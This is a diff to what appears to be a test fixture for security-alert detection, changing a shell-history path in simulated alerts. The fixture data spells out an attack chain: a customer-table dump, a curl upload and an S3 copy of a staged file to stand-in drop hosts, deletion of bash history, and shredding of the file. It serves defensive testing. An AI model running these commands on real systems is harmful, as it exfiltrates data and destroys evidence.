@@ -19,7 +19,7 @@ SENT: Told = (
     "Notice Unexpected outbound connection destination",
     f"connection=10.1.9.1:5123->{DROP}:443 process=curl command=curl -sS -T /tmp/.a/p1 https://up.drop.test/k",
 )
-HISTORY: Told = (300, "Warning Shell history had been deleted or renamed", "file=/root/.bash_history command=bash")
+HISTORY: Told = (300, "Warning Shell history had been deleted or renamed", "file=/home/app/.bash_history command=bash")
 SHRED: Told = (200, "Warning Bulk data has been removed from disk", "process=shred command=shred -u /tmp/.a/p1")
 ALL = (EXEC, DUMP, SENT, HISTORY, SHRED)
 COPY = "[77] user=web,db=shop,app=psql,client={address} LOG:  statement: COPY public.customers TO stdout"
@@ -97,7 +97,7 @@ HOLDS = [
             ("into a bucket", sent_by("aws s3 cp /tmp/.a/p1 s3://drop-k2/p1")),
             (
                 "the history by a command",
-                seen(EXEC, DUMP, SENT, saying(HISTORY, "command=rm -f /root/.bash_history", "Notice x"), SHRED),
+                seen(EXEC, DUMP, SENT, saying(HISTORY, "command=rm -f /home/app/.bash_history", "Notice x"), SHRED),
             ),
         )
     ),
